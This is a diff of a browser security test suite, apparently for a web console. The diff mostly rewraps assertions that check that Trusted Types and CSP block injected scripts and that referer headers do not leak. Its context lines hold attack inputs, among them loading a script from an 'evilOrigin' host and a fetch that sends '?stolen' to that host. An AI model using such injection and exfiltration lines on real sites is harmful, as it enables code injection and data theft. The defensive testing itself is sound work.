@@ -104,8 +104,14 @@ suite('attacks on the console', { skip: noBrowser }, () => {
       `Object.assign(document.createElement('script'), { src: '${evilOrigin}/x.js' })`,
       `trustedTypes.createPolicy('p', { createHTML: (text) => text })`,
     ])
-      await assert.rejects(page.evaluate(mistake), /TrustedHTML|TrustedScriptURL|createPolicy|disallowed/, mistake);
-    await page.evaluate(`try { setTimeout('pwned=1') } catch { complain('violation of text as a program'); }`);
+      await assert.rejects(
+        page.evaluate(mistake),
+        /TrustedHTML|TrustedScriptURL|createPolicy|disallowed/,
+        mistake,
+      );
+    await page.evaluate(
+      `try { setTimeout('pwned=1') } catch { complain('violation of text as a program'); }`,
+    );
     await page.evaluate(`document.body.append(Object.assign(document.createElement('a'), { id: 'a', textContent: 'x' }));
       document.getElementById('a').setAttribute('style', 'color:red');`);
     await page.evaluate(`fetch('${evilOrigin}/?stolen').catch(() => undefined)`);
@@ -230,10 +236,7 @@ suite('attacks on the console', { skip: noBrowser }, () => {
     for (const request of requests) {
       const { referer } = await request.allHeaders();
       const isOfEntra = request.url().startsWith(local.description.entra.browserAuthority);
-      assert.ok(
-        !referer || (isOfEntra && !referer.includes('console')),
-        `${request.url()}: ${referer}`,
-      );
+      assert.ok(!referer || (isOfEntra && !referer.includes('console')), `${request.url()}: ${referer}`);
     }
     await page.goBack().catch(() => undefined);
     assert.ok(!page.url().includes('code='));
